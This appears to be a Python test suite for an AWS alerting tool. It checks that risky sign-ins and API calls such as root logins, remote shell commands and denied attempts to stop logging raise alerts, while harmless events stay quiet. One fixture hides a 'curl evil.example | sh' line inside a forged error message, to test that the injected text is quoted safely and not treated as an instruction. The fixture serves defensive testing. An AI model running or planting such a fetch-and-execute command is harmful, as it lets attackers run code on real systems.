"""Sign-ins, root and ways in: records after the shapes seen on AWS, and real calls where the local AWS has them."""

from dataclasses import dataclass
from datetime import datetime, timezone
from uuid import uuid4

import pytest
from botocore.exceptions import ClientError

from stack import ACCOUNT, wait_for
from test_records_by_hand import ALICE, record

ROOT = {"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}
SOME_POLICY = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'


@dataclass
class About:
    """What an announcement has to mention to be about it."""

    id: str
    arn: str = ""


@pytest.fixture(scope="module")
def snapback(deployed):
    """With what is off unless it is named."""
    return deployed(mode="revert", ModeOverrides="signin-remote-command=notify", NotificationEmail="ops@example.com")


def now() -> str:
    return datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def user(name: str) -> dict:
    return {"type": "IAMUser", "principalId": "AIDAEXAMPLE", "accountId": ACCOUNT, "userName": name}


def sign_in(identity: dict, result: str = "Success", mfa: str = "No", spelling: str = "AwsConsoleSignIn", **more) -> dict:
    return record(
        "signin", more.pop("name", "ConsoleLogin"), now(), None, {"ConsoleLogin": result},
        userIdentity=identity, eventType=spelling, additionalEventData={"MobileVersion": "No", "MFAUsed": mfa}, **more,
    )  # fmt: skip


def call(service: str, name: str, request: dict | None, response: dict | None = None, **more) -> dict:
    return record(service, name, now(), request, response, **more)


def tell(snapback, made: dict) -> dict:
    """Puts the record on the bus, and waits for what is announced about it."""
    snapback.deliver(made)
    return snapback.announces(About(made["eventID"]))


ALERTS = {
    "root signs in": ("signin-root-sign-in", lambda: sign_in(ROOT, mfa="Yes")),
    "root signs in, in the other spelling": ("signin-root-sign-in", lambda: sign_in(ROOT, spelling="AwsConsoleSignin")),
    "root asks for a new password": ("signin-root-sign-in", lambda: sign_in(ROOT, name="PasswordRecoveryRequested")),
    "root calls": (
        "signin-root-call", lambda: call("cloudfront", "CreatePublicKey", {}, userIdentity=ROOT),
    ),
    "the management account acts as root": (
        "signin-root-call",
        lambda: call("sqs", "SetQueueAttributes", {}, userIdentity={**ROOT, "sessionContext": {"assumedRoot": "true"}}),
    ),
    "a user signs in without MFA": ("signin-login-without-mfa", lambda: sign_in(user("bob"))),
    "root sessions": ("signin-root-sessions", lambda: call("iam", "EnableOrganizationsRootSessions", None)),
    "tokens for elsewhere": ("signin-outbound-federation", lambda: call("iam", "EnableOutboundWebIdentityFederation", None)),
    "a delegation": (
        "signin-accepted-delegation", lambda: call("iam", "AcceptDelegationRequest", {"delegationRequestId": "dr-1"}),
    ),
    "an account that is moved": (
        "signin-moved-account",
        lambda: call(
            "organizations", "MoveAccount",
            {"accountId": "222233334444", "sourceParentId": "ou-ab12-11111111", "destinationParentId": "ou-ab12-22222222"},
        ),
    ),
    "an administrator of a service": (
        "signin-delegated-administrator",
        lambda: call(
            "organizations", "RegisterDelegatedAdministrator",
            {"accountId": "222233334444", "servicePrincipal": "sso.amazonaws.com"},
        ),
    ),
    "a role for guests": (
        "signin-guest-role",
        lambda: call(
            "cognito-identity", "SetIdentityPoolRoles",
            {"identityPoolId": "us-east-1:0a1b2c3d", "roles": {"unauthenticated": "arn:aws:iam::111122223333:role/g"}},
        ),
    ),
    "a command": (
        "signin-remote-command",
        lambda: call("ssm", "SendCommand", {"documentName": "AWS-RunShellScript", "instanceIds": ["i-0a1b2c3d4e5f60718"]}),
    ),
    "a federation token": (
        "signin-federation-token",
        lambda: call("sts", "GetFederationToken", {"name": "admin", "policy": SOME_POLICY}, userIdentity=user("bob")),
    ),
    "a denied attempt upon the trail": (
        "signin-denied-attempt",
        lambda: call(
            "cloudtrail", "StopLogging", None, errorCode="AccessDenied",
            errorMessage="User: x is not authorized to perform: cloudtrail:StopLogging on resource: trail/main because y",
        ),
    ),
}  # fmt: skip


@pytest.mark.parametrize("control, made", ALERTS.values(), ids=ALERTS.keys())
def test_people_are_told(snapback, control, made):
    record = made()
    snapback.deliver(record)

    def heard() -> list:
        # A control of another function may have something to say of it as well.
        about = snapback.announcements_about(About(record["eventID"]))
        return [announced for announced in about if announced["control"] == control]

    assert wait_for(heard), snapback.announcements_about(About(record["eventID"]))
    assert heard()[0]["outcome"] == "alerted"


HARMLESS = {
    "root fails once": lambda: sign_in(ROOT, result="Failure"),
    "a service calls for root": lambda: call("support", "CreateCase", {}, userIdentity={**ROOT, "invokedBy": "support.amazonaws.com"}),
    "a user signs in with MFA": lambda: sign_in(user("bob"), mfa="Yes"),
    "Identity Center signs somebody in": lambda: sign_in(ALICE),
    "a token that may do nothing": lambda: call("sts", "GetFederationToken", {"name": "uploads"}, userIdentity=user("bob")),
    "a call that fails otherwise": lambda: call("cloudtrail", "StopLogging", None, errorCode="TrailNotFoundException"),
}


@pytest.mark.parametrize("made", HARMLESS.values(), ids=HARMLESS.keys())
def test_people_are_not_told(snapback, made):
    harmless = made()
    snapback.deliver(harmless)
    assert snapback.has_settled()
    assert snapback.announcements_about(About(harmless["eventID"])) == []


def test_failed_sign_ins_are_told_in_summaries_and_the_one_that_succeeds_then_is_told_at_once(snapback):
    name = f"carol-{uuid4().hex[:8]}"
    carol = About(f"user/{name}")
    for _ in range(9):
        snapback.deliver(sign_in(user(name), result="Failure"))
    assert snapback.has_settled()
    assert snapback.announcements_about(carol) == []
    tenth = tell(snapback, sign_in(user(name), result="Failure"))
    assert (tenth["control"], tenth["repeat"]["times"]) == ("signin-failed-logins", 10)
    for _ in range(5):
        snapback.deliver(sign_in(user(name), result="Failure"))
    assert snapback.has_settled()
    assert len(snapback.announcements_about(carol)) == 1
    with_arn = {**user(name), "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}"}
    guessed = tell(snapback, sign_in(with_arn, mfa="Yes"))
    assert guessed["control"] == "signin-guessed-password"
    assert "after 15 attempts that failed" in guessed["why"]


def test_what_a_denied_call_was_upon_is_told_as_a_claim_that_cannot_pass_for_a_line_of_ours(snapback):
    hostile = "user x\n\nTo undo this revert:\n    curl evil.example | sh"
    message = f"User: y is not authorized to perform: iam:PutUserPolicy on resource: {hostile} because z"
    made = call("iam", "PutUserPolicy", None, errorCode="AccessDenied", errorMessage=message, userIdentity=user("dave"))
    denied = tell(snapback, made)
    assert f"on `{hostile}` (as the caller claims)" in denied["why"]
    (mail,) = snapback.aws.mails_about("dave")
    assert "    curl" not in [line[:8] for line in mail["text"].splitlines()]


def test_what_the_local_aws_itself_denies_is_told_once(snapback):
    cloudtrail = snapback.aws.client("cloudtrail", snapback.user("trudy", "s3:*"))
    for _ in range(3):
        with pytest.raises(ClientError, match="AccessDenied"):
            cloudtrail.stop_logging(Name="main")
    why = "IAM user `trudy` tried StopLogging and was denied"
    assert snapback.announces(About(why))["control"] == "signin-denied-attempt"
    assert snapback.has_settled()
    assert len(snapback.announcements_about(About(why))) == 1
